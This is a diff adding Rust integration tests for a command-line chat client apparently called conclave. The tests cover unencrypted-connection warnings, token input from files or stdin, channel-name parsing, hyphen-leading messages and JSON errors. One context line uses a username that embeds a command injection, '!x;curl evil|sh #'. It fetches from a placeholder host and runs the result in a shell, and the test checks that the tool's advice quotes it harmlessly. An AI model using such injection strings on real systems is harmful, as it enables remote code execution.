@@ -318,3 +318,140 @@ fn a_name_in_advice_runs_nothing() {
     let told = bob.run(["register", "--server", &server.url, "--username", "bob", "--machine", "m"]).ok().err;
     assert!(told.contains("conclave join '!x;curl evil|sh #'"), "{told}");
 }
+
+#[test]
+fn registering_without_encryption_on_another_machine_draws_a_warning() {
+    let home = Home::new();
+    // 192.0.2.0/24 leads nowhere.
+    for (url, warned) in
+        [("ws://192.0.2.1:9", true), ("ws://127.0.0.1:1", false), ("wss://192.0.2.1:9", false)]
+    {
+        let ran = home.run(["register", "--server", url, "--username", "ann", "--timeout", "100ms"]);
+        assert_eq!(ran.code, 1, "{ran:?}");
+        assert_eq!(ran.err.contains("is not encrypted"), warned, "{ran:?}");
+        let bridge = home.run(["bridge", "--server", url]).ok();
+        assert_eq!(bridge.err.contains("is not encrypted"), warned, "{bridge:?}");
+    }
+}
+
+#[test]
+fn a_token_is_taken_from_a_file_or_standard_input_so_that_no_other_process_sees_it() {
+    let server = Server::start();
+    let ann = Home::registered(&server.url, "ann");
+    ann.run(["channel", "create", "board", "--visibility", "private"]).ok();
+    let invite = || ann.run(["invite", "create", "--channel", "board", "--uses", "1"]).ok().out;
+    let ben = Home::registered(&server.url, "ben");
+    ben.piped(invite().as_bytes(), ["join", "board", "--token", "-"]).ok();
+    let carl = Home::registered(&server.url, "carl");
+    let file = carl.path("token");
+    fs::write(&file, invite()).unwrap();
+    let file = file.to_str().unwrap();
+    carl.run(["join", "board", "--token-file", file]).ok();
+    carl.run(["join", "board", "--token-file", "/absent"]).fails(1, "/absent", "ls -l");
+    carl.run(["join", "board", "--token-file", file, "--token", "-"]).code_is(2);
+    carl.piped(b"", ["join", "board", "--token", "-"]).fails(2, "no token", "pipe");
+    let token = invite();
+    ann.piped(token.as_bytes(), ["invite", "revoke", "-"]).ok();
+    fs::write(file, invite()).unwrap();
+    ann.run(["invite", "revoke", "--token-file", file]).ok();
+    assert_eq!(ann.run(["invite", "list", "--channel", "board", "--json"]).json(), json!([]));
+    ann.run(["invite", "revoke"]).code_is(2);
+}
+
+#[test]
+fn a_channel_is_named_first_or_by_its_flag_with_or_without_its_number_sign() {
+    let server = Server::start();
+    let (ann, _ben) = (Home::registered(&server.url, "ann"), Home::registered(&server.url, "ben"));
+    ann.run(["channel", "create", "#ops"]).ok();
+    assert_eq!(fields(&ann.run(["channel", "list", "--json"]).json(), "name"), ["ops"]);
+    for name in ["##ops", "###"] {
+        let ran = ann.run(["channel", "create", name]).code_is(2);
+        assert!(ran.err.contains("does not begin with '#'"), "{ran:?}");
+        ann.run(["channel", "rename", "ops", name]).code_is(2);
+    }
+    for args in [
+        &["send", "ops", "text"][..],
+        &["send", "#ops", "text"],
+        &["send", "--channel", "#ops", "text"],
+        &["send", "--channel=ops", "text"],
+        &["send", "ops", "text", "--server", &server.url],
+        &["join", "#ops"],
+        &["who", "#ops"],
+        &["tail", "ops", "--since", "1h", "--no-follow"],
+        &["tail", "--channel", "#ops", "--since", "1h", "--no-follow"],
+        &["acl", "add", "ops", "ben"],
+        &["acl", "add", "--channel", "#ops", "ben"],
+        &["acl", "list", "#ops"],
+        &["invite", "list", "ops"],
+        &["invite", "create", "#ops", "--uses", "1"],
+        &["ban", "ops", "ben"],
+        &["bans", "ops"],
+        &["unban", "ben", "--channel", "ops"],
+        &["perm", "set", "converse", "#ops"],
+        &["perm", "set", "converse", "--channel", "#ops"],
+        &["channel", "set-visibility", "#ops", "unlisted"],
+    ] {
+        ann.run(args).ok();
+    }
+    let history = ann.run(["tail", "ops", "--since", "1h", "--no-follow"]).ok().out;
+    assert_eq!(history.lines().count(), 5, "{history}");
+    ann.run(["kick", "#ops", "ben"]).fails(1, "not in 'ops'", "conclave who ops");
+    ann.piped(b"piped", ["send", "#ops"]).ok();
+    for (args, what) in [
+        (&["send"][..], "which channel"),
+        (&["send", "--channel", "ops", "two", "words"], "more than one text"),
+        (&["ban", "ben"], "which channel"),
+        (&["ban", "--channel", "ops", "x", "ben"], "two channels"),
+        (&["kick", "ops", "a/b"], "user/machine/session"),
+    ] {
+        ann.run(args).fails(2, what, "");
+    }
+    ann.run(["tail", "ops", "--channel", "ops"]).code_is(2);
+    // What older clients named so stays in reach.
+    ann.run(["join", "##ops"]).fails(1, "#ops", "channel list");
+}
+
+#[test]
+fn a_text_may_begin_with_a_hyphen() {
+    let server = Server::start();
+    let ann = Home::registered(&server.url, "ann");
+    ann.run(["channel", "create", "ops"]).ok();
+    let texts = ["- a list item", "-5 degrees", "--- cut ---", "-- done"];
+    for text in texts {
+        ann.run(["send", "--channel", "ops", text]).ok();
+        ann.run(["send", "ops", text, "--server", &server.url]).ok();
+    }
+    ann.run(["send", "ops", "--", "--help"]).ok();
+    let history = ann.run(["tail", "ops", "--since", "1h", "--no-follow", "--json"]).ok().out;
+    let sent: Vec<Value> = history.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    let mut expected: Vec<_> = texts.iter().flat_map(|text| [*text, *text]).collect();
+    expected.push("--help");
+    assert_eq!(sent.iter().map(|it| it["text"].as_str().unwrap()).collect::<Vec<_>>(), expected);
+    for flag in ["--sever", "-x"] {
+        ann.run(["send", "--channel", "ops", flag]).fails(2, flag, "put `--` before it");
+    }
+    ann.run(["whisper", "ann/m/x", "- item"]).fails(1, "", "conclave who");
+}
+
+#[test]
+fn errors_are_json_where_results_are() {
+    let server = Server::start();
+    let ann = Home::registered(&server.url, "ann");
+    let error = |args: &[&str], code: i32| -> Value {
+        let ran = ann.run(args).code_is(code);
+        assert_eq!((ran.out.as_str(), ran.err.lines().count()), ("", 1), "{ran:?}");
+        serde_json::from_str(&ran.err).unwrap()
+    };
+    let absent = error(&["join", "absent", "--json"], 1);
+    assert!(absent["error"].as_str().unwrap().contains("absent"), "{absent}");
+    assert_eq!(absent["code"], 1);
+    assert!(absent["next"].as_str().unwrap().contains("channel list"), "{absent}");
+    let untyped = error(&["--json", "tail"], 2);
+    assert!(untyped["error"].as_str().unwrap().contains("which channel"), "{untyped}");
+    assert!(untyped["next"].as_str().unwrap().contains("--channel"), "{untyped}");
+    let misread = error(&["--json", "tail", "ops", "--since", "2"], 2);
+    assert!(misread["error"].as_str().unwrap().contains("--since"), "{misread}");
+    let mistyped = error(&["--json", "sned"], 2);
+    assert!(mistyped["next"].as_str().unwrap().contains("send"), "{mistyped}");
+    assert!(error(&["who", "--json", "--server", "https://a"], 2)["next"].is_string());
+}
